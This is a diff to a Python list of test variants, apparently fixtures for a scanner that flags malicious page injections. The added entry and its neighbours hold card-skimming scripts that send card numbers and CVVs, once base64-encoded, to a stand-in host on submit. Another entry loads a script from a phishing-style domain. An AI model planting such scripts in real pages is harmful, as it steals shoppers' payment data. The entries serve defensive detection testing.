@@ -827,6 +827,10 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
         "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({url:"
         "'https://sales-reports.test/api',method:'POST',data:{f:$('form').serialize(),c:$("
         "'#cardNumber').val()}});});</script>")}, "form-skimmer"),
+    ("$.ajax with its data object before its url, what it posts base64", {"footer": (
+        "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({type:"
+        "'POST',data:{d:btoa($('#cardNumber').val()+'|'+$('#cvv').val())},url:'https://"
+        "sales-reports.test/api'});});</script>")}, "form-skimmer"),
     ("a script after </html> on a brand beside sign-in words", {"after": (
         '<script src="https://paypal-secure-login.test/w.js"></script>')}, "appended-script"),
     ("a script after </html> on a brand beside a word, its digits for letters", {"after": (
